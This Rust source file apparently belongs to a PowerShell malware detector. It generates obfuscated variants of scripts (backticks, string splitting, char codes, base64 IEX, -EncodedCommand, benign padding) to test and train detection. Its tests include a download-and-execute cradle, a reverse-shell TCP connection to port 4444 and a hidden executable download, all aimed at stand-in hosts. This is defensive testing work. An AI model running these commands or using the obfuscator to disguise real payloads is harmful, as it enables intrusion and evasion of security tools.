//! Disguises of our own for PowerShell, as text: to test that scores hold, and to train with. What they make is meant to mean
//! the same as before to PowerShell; nothing is run to check.

use super::token::{Kind, Seen, Token, tokens};
use crate::random::Random;

/// A way to disguise a script.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mutation {
    /// Letters change case.
    Case,
    /// Backticks in words.
    Backtick,
    /// Words in pieces of quotes: `i''ex`.
    Quote,
    /// Strings put together by `+`.
    Concatenate,
    /// Strings put together by `-f`.
    Format,
    /// Strings as character codes.
    Codes,
    /// Strings turned round.
    Reverse,
    /// Strings kept in variables.
    Variables,
    /// The whole as `-EncodedCommand`.
    Encode,
    /// The whole as base64 handed to `iex`.
    Base64,
    /// Comments between statements.
    Comments,
    /// More white space.
    Space,
    /// Benign statements before, after and between.
    Padding,
}

impl Mutation {
    /// All of them.
    pub const ALL: [Self; 13] = [
        Self::Case,
        Self::Backtick,
        Self::Quote,
        Self::Concatenate,
        Self::Format,
        Self::Codes,
        Self::Reverse,
        Self::Variables,
        Self::Encode,
        Self::Base64,
        Self::Comments,
        Self::Space,
        Self::Padding,
    ];

    /// Its name.
    pub fn name(self) -> &'static str {
        match self {
            Self::Case => "case",
            Self::Backtick => "backtick",
            Self::Quote => "quote",
            Self::Concatenate => "concatenate",
            Self::Format => "format",
            Self::Codes => "codes",
            Self::Reverse => "reverse",
            Self::Variables => "variables",
            Self::Encode => "encode",
            Self::Base64 => "base64",
            Self::Comments => "comments",
            Self::Space => "space",
            Self::Padding => "padding",
        }
    }
}

/// Words that take neither backticks nor quotes.
const KEYWORDS: &[&str] = &[
    "if",
    "else",
    "elseif",
    "for",
    "foreach",
    "while",
    "do",
    "switch",
    "function",
    "filter",
    "param",
    "return",
    "try",
    "catch",
    "finally",
    "throw",
    "begin",
    "process",
    "end",
    "in",
    "class",
    "enum",
    "using",
    "break",
    "continue",
    "trap",
    "until",
    "data",
    "configuration",
    "node",
    "workflow",
];

/// Longest string that is disguised letter by letter.
const TEXT_MAX: usize = 400;

/// The script disguised.
pub fn mutate(text: &str, how: Mutation, random: &mut Random) -> String {
    match how {
        Mutation::Encode => format!("powershell -EncodedCommand {}", base64(&utf16(text))),
        Mutation::Base64 => {
            format!("IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))", base64(&utf16(text)))
        }
        Mutation::Padding => padded(text, random),
        _ => {
            let mut found = Vec::new();
            tokens(text, None, &mut Seen::default(), &mut found);
            let mut before = String::new();
            let mut out = String::with_capacity(text.len() * 2);
            let mut at = 0usize;
            for (index, token) in found.iter().enumerate() {
                let (from, to) = (token.raw.0 as usize, token.raw.1 as usize);
                let (Some(gap), Some(written)) = (text.get(at..from), text.get(from..to)) else {
                    continue;
                };
                out.push_str(gap);
                let previous = index.checked_sub(1).and_then(|before| found.get(before));
                out.push_str(&one(token, previous, written, how, &mut before, random));
                at = to;
            }
            out.push_str(text.get(at..).unwrap_or(""));
            before + &out
        }
    }
}

fn one(
    token: &Token<'_>,
    previous: Option<&Token<'_>>,
    written: &str,
    how: Mutation,
    before: &mut String,
    random: &mut Random,
) -> String {
    let keyword = KEYWORDS.contains(&written.to_ascii_lowercase().as_str());
    // Paths and member names of strings keep their form; so do words that are not only letters and dashes.
    let plain = token.kind == Kind::Word
        && token.text == written
        && written.len() >= 3
        && !keyword
        && written.bytes().all(|byte| byte.is_ascii_alphabetic() || byte == b'-');
    let typed =
        previous.is_some_and(|previous| previous.is_sign("[") || previous.is_sign("::") || previous.is_sign("."));
    let starts = previous.is_none_or(|previous| {
        previous.kind == Kind::End
            || previous.is_sign("|")
            || previous.is_sign("(")
            || previous.is_sign("{")
            || previous.is_sign("=")
    });
    // A string in quotes of its own that says what it says, not in a type, not after another value.
    let string = token.kind == Kind::Text
        && (written.starts_with('\'') || written.starts_with('"'))
        && written.len() == token.text.len() + 2
        && (4..=TEXT_MAX).contains(&token.text.len())
        && token.text.chars().all(|next| {
            next.is_ascii_graphic() && !matches!(next, '\'' | '"' | '`' | '$' | '{' | '}' | '’') || next == ' '
        })
        && !token.glued | previous.is_some_and(|previous| previous.is_sign("("));
    let text = token.text.as_ref();
    match how {
        Mutation::Case if matches!(token.kind, Kind::Word | Kind::Variable) => written
            .chars()
            .map(|next| if random.below(2) == 0 { next.to_ascii_uppercase() } else { next.to_ascii_lowercase() })
            .collect(),
        Mutation::Backtick if plain && !typed && !written.starts_with('-') => {
            let mut out = String::new();
            for (at, next) in written.chars().enumerate() {
                if at > 0
                    && random.below(3) == 0
                    && !matches!(
                        next.to_ascii_lowercase(),
                        '0' | 'a' | 'b' | 'e' | 'f' | 'n' | 'r' | 't' | 'u' | 'v' | '-'
                    )
                {
                    out.push('`');
                }
                out.push(next);
            }
            out
        }
        Mutation::Quote if plain && starts => {
            let at = 1 + random.below(written.len() - 1);
            format!("{}''{}", written.get(..at).unwrap_or(""), written.get(at..).unwrap_or(""))
        }
        Mutation::Concatenate if string => {
            let parts = cut(text, random);
            format!("({})", parts.iter().map(|part| format!("'{part}'")).collect::<Vec<_>>().join("+"))
        }
        Mutation::Format if string => {
            let parts = cut(text, random);
            let mut order: Vec<usize> = (0..parts.len()).collect();
            random.shuffle(&mut order);
            let place = |part: usize| order.iter().position(|at| *at == part).unwrap_or(0);
            let shape: String = (0..parts.len()).map(|part| format!("{{{}}}", place(part))).collect();
            let items: Vec<String> =
                order.iter().map(|at| format!("'{}'", parts.get(*at).copied().unwrap_or(""))).collect();
            format!("(\"{shape}\" -f {})", items.join(","))
        }
        Mutation::Codes if string => {
            let codes: Vec<String> = text
                .chars()
                .map(
                    |next| {
                        if random.below(2) == 0 { format!("{}", next as u32) } else { format!("0x{:x}", next as u32) }
                    },
                )
                .collect();
            if text.len() <= 12 {
                format!("({})", codes.iter().map(|code| format!("[char]{code}")).collect::<Vec<_>>().join("+"))
            } else {
                format!("(-join(({})|%{{[char]$_}}))", codes.join(","))
            }
        }
        Mutation::Reverse if string => {
            let turned: String = text.chars().rev().collect();
            format!("('{turned}'[-1..-{}] -join '')", text.chars().count())
        }
        Mutation::Variables if string => {
            let at = 1 + random.below(text.len() - 1);
            let (first, second) = (random.below(26), random.below(999));
            let name = |more: char| format!("{}{more}{second}", (b'a' + first as u8) as char);
            before.push_str(&format!(
                "${}='{}';${}='{}'\n",
                name('a'),
                text.get(..at).unwrap_or(""),
                name('b'),
                text.get(at..).unwrap_or("")
            ));
            format!("(${}+${})", name('a'), name('b'))
        }
        Mutation::Comments if starts && token.kind == Kind::Word => {
            format!("<# {} #>{written}", BENIGN_WORDS.get(random.below(BENIGN_WORDS.len())).unwrap_or(&""))
        }
        Mutation::Space if token.kind == Kind::Sign && matches!(written, "|" | "=" | "+" | ",") => {
            format!("{0}{written}{0}", " ".repeat(1 + random.below(5)))
        }
        _ => written.to_owned(),
    }
}

/// Two to five parts.
fn cut<'t>(text: &'t str, random: &mut Random) -> Vec<&'t str> {
    let count = 2 + random.below(4).min(text.len() / 2);
    let mut at = random.sample(text.len() - 1, count - 1);
    at.iter_mut().for_each(|at| *at += 1);
    at.insert(0, 0);
    at.push(text.len());
    at.windows(2).filter_map(|pair| text.get(*pair.first()?..*pair.last()?)).collect()
}

const BENIGN_WORDS: &[&str] = &[
    "set up the module",
    "check the version first",
    "see the wiki",
    "keep in step with the template",
    "reviewed",
    "by the release pipeline",
    "TODO: simplify",
];

/// Ordinary statements.
pub const BENIGN_STATEMENTS: &[&str] = &[
    "Write-Host \"Starting inventory\"",
    "$today = Get-Date -Format 'yyyy-MM-dd'",
    "if (-not (Test-Path $logFolder)) { New-Item -ItemType Directory -Path $logFolder | Out-Null }",
    "Import-Module ActiveDirectory -ErrorAction Stop",
    "$services = Get-Service | Where-Object { $_.Status -eq 'Running' }",
    "Write-Verbose \"Found $($services.Count) services\"",
    "$report = $services | Select-Object Name, DisplayName, Status",
    "$report | Export-Csv -Path $reportPath -NoTypeInformation",
    "function Get-Total { param([int[]]$Values) ($Values | Measure-Object -Sum).Sum }",
    "$config = Get-Content -Path '.\\config.json' -Raw | ConvertFrom-Json",
    "Write-Output 'Finished'",
    "$ErrorActionPreference = 'Stop'",
    "foreach ($item in $report) { Write-Debug $item.Name }",
];

fn padded(text: &str, random: &mut Random) -> String {
    let mut some = |count: usize| -> String {
        (0..count)
            .filter_map(|_| BENIGN_STATEMENTS.get(random.below(BENIGN_STATEMENTS.len())))
            .map(|line| format!("{line}\n"))
            .collect()
    };
    format!("{}{}\n{}", some(6), text, some(6))
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// Base64 with padding.
pub fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len() / 3 * 4 + 4);
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().enumerate().fold(0u32, |bits, (at, byte)| bits | u32::from(*byte) << (16 - 8 * at));
        for at in 0..4 {
            let letter = LETTERS.get((bits >> (18 - 6 * at) & 63) as usize).copied().unwrap_or(b'A');
            out.push(if at <= chunk.len() { letter as char } else { '=' });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::script::canonical;
    use crate::text::script::fold::Undone;

    fn shown(text: &str) -> String {
        let mut out = Vec::new();
        canonical::write(text, 0, None, 0, &mut Undone::default(), &mut |byte, _, _| out.push(byte));
        String::from_utf8_lossy(&out).into_owned()
    }

    #[test]
    fn disguises_leave_the_canonical_form_as_it_is() {
        let scripts = [
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
            "$client = New-Object System.Net.Sockets.TCPClient('198.51.100.7',4444)\n$stream = $client.GetStream()",
            "Invoke-WebRequest -Uri 'http://example.test/x.exe' -OutFile \"$env:TEMP\\x.exe\"; Start-Process 'x.exe' -WindowStyle Hidden",
        ];
        let holds = [
            Mutation::Case,
            Mutation::Backtick,
            Mutation::Quote,
            Mutation::Concatenate,
            Mutation::Format,
            Mutation::Codes,
            Mutation::Reverse,
            Mutation::Comments,
            Mutation::Space,
        ];
        for script in scripts {
            for how in holds {
                for seed in 0..8 {
                    let disguised = mutate(script, how, &mut Random::new(seed));
                    assert_eq!(shown(&disguised), shown(script), "{how:?}: {disguised}");
                }
            }
            for how in [Mutation::Encode, Mutation::Base64, Mutation::Variables, Mutation::Padding] {
                let disguised = mutate(script, how, &mut Random::new(3));
                assert!(shown(&disguised).contains(&shown(script)), "{how:?}: {disguised}\n{}", shown(&disguised));
            }
        }
    }

    #[test]
    fn what_is_no_script_is_disguised_without_harm() {
        for text in ["", "'", "\"$(", "é’", "@'", "a\0b", "$"] {
            for how in Mutation::ALL {
                let _ = mutate(text, how, &mut Random::new(1));
            }
        }
    }
}
